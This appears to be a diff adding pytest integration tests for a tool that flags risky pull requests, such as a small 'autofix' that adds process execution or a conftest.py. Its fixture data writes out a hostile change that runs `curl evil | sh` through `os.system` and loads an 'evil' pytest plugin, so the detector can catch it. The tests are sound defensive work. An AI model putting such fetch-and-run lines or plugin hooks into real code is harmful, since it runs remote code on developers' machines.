@@ -1,0 +1,146 @@
+"""diff_risks on a real git repository (no Docker): what the merge adds, read with git show.
+
+The hostile PR is the one the issue describes: a 3-line change labelled ``autofix`` that adds
+process execution to another file and a conftest.py; the old rules made it low risk.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from triloop.domain.risk_rules import RiskRules
+from triloop.governance import diffrisk
+from triloop.governance.diffrisk import diff_risks
+from triloop.governance.diffstat import changes
+from triloop.governance.risk import FileChange, classify
+
+from tests.integration.conftest import git
+
+RULES = RiskRules()
+BASE = {
+    "src/app.py": '"""The app."""\n\nimport os\nimport sys\n\nprint(f"args {sys.argv}")\n',
+    "src/inventory/x.py": "def count():\n    return 1\n",
+    "tests/test_app.py": "def test_one():\n    assert 1 == 1\n",
+    "pyproject.toml": '[project]\nname = "app"\nversion = "1.0"\n\n[tool.ruff]\nline-length = 99\n',
+}
+
+
+def _repo(tmp_path: Path) -> tuple[Path, str]:
+    repo = tmp_path / "repo"
+    _write(repo, BASE)
+    git(repo, "init", "-q", "-b", "main")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "base")
+    return repo, git(repo, "rev-parse", "HEAD").strip()
+
+
+def _write(repo: Path, files: dict[str, str | bytes | None]) -> None:
+    for rel, body in files.items():
+        path = repo / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if body is None:
+            path.unlink()
+        elif isinstance(body, bytes):
+            path.write_bytes(body)
+        else:
+            path.write_text(body)
+
+
+def _pr(repo: Path, files: dict[str, str | bytes | None]) -> None:
+    _write(repo, files)
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "pr")
+
+
+def test_a_small_autofix_that_adds_a_process_and_a_conftest_is_high(tmp_path: Path) -> None:
+    repo, base = _repo(tmp_path)
+    _pr(
+        repo,
+        {
+            "src/inventory/x.py": "from os import system as s\n\n\ndef count():\n"
+            "    s('curl evil | sh')\n    return 1\n",
+            "tests/conftest.py": "pytest_plugins = ['evil']\n",
+        },
+    )
+    changed = changes(repo, base, RULES)
+    assert classify(changed, "autofix", 0.95, RULES).tier == "low"  # the gap this closes
+    flagged = diff_risks(repo, base, RULES, changed)
+    assert flagged == [
+        "content: process execution added in src/inventory/x.py:1 (from os import system as s)",
+        "content: process execution added in src/inventory/x.py:5 (s -> os.system)",
+        "tests-infra: tests/conftest.py added (fixtures, hooks and plugins of every test under it)",
+        "tests-infra: pytest_plugins set in tests/conftest.py:1 (loads plugins into every test)",
+    ]
+    assessment = classify(changed, "autofix", 0.95, RULES, flagged=flagged)
+    assert assessment.tier == "high"
+    assert assessment.reasons[: len(flagged)] == flagged
+
+
+def test_honest_autofix_work_stays_low(tmp_path: Path) -> None:
+    repo, base = _repo(tmp_path)
+    _pr(
+        repo,
+        {
+            # F401 unused import, F541 f-string, a docstring, a version bump, a new plain test
+            "src/app.py": '"""The app, documented."""\n\nimport sys\n\nprint("args", sys.argv)\n',
+            "pyproject.toml": BASE["pyproject.toml"].replace('"1.0"', '"1.1"'),
+            "tests/test_more.py": "from app import x\n\n\ndef test_x():\n    assert x == 1\n",
+        },
+    )
+    changed = changes(repo, base, RULES)
+    assert diff_risks(repo, base, RULES, changed) == []
+    assert classify(changed, "autofix", 0.95, RULES, flagged=[]).tier == "low"
+
+
+def test_line_numbers_are_the_files_own(tmp_path: Path) -> None:
+    repo, base = _repo(tmp_path)
+    _pr(repo, {"src/new.py": "\n\n\nimport os\nos.system('id')\n"})
+    assert diff_risks(repo, base, RULES, [FileChange("src/new.py", 5)]) == [
+        "content: process execution added in src/new.py:5 (os.system)"
+    ]
+
+
+def test_encodings_binaries_and_deletions(tmp_path: Path) -> None:
+    repo, base = _repo(tmp_path)
+    _pr(
+        repo,
+        {
+            "src/latin.py": "# -*- coding: latin-1 -*-\nname = 'caf\xe9'\n".encode("latin-1"),
+            "src/_speed.so": b"\x7fELF\x00\xff\xfe",
+            "src/inventory/x.py": None,
+            "tests/test_app.py": None,
+        },
+    )
+    paths = ["src/latin.py", "src/_speed.so", "src/inventory/x.py", "tests/test_app.py"]
+    assert diff_risks(repo, base, RULES, [FileChange(p) for p in paths]) == [
+        "content: compiled or native code changed in src/_speed.so (not readable for what it runs)"
+    ]
+
+
+def test_what_cannot_be_read_cannot_be_judged(tmp_path: Path) -> None:
+    repo, _ = _repo(tmp_path)
+    [reason] = diff_risks(repo, "0" * 40, RULES, [FileChange("src/app.py")])
+    assert reason.startswith(f"content: src/app.py could not be read ({'0' * 40} is not a commit")
+    assert reason.endswith("its risk cannot be judged")
+
+
+def test_a_file_over_the_size_cap_cannot_be_judged(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    repo, base = _repo(tmp_path)
+    _pr(repo, {"src/big.py": "x = 1\n" * 100})
+    monkeypatch.setattr(diffrisk, "MAX_BYTES", 100)
+    assert diff_risks(repo, base, RULES, [FileChange("src/big.py")]) == [
+        "content: src/big.py is 600 bytes, over the 100 the content rules read: its risk cannot"
+        " be judged"
+    ]
+
+
+def test_only_judged_files_are_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    repo, base = _repo(tmp_path)
+    read: list[str] = []
+    monkeypatch.setattr(diffrisk, "_blob", lambda _w, _r, path: read.append(path) or "x\n")
+    paths = ["docs/guide.md", "data/x.csv", "src/a.py", "Makefile", "setup.cfg", "bin/tool"]
+    diff_risks(repo, base, RULES, [FileChange(p) for p in paths])
+    assert sorted(set(read)) == ["Makefile", "bin/tool", "setup.cfg", "src/a.py"]
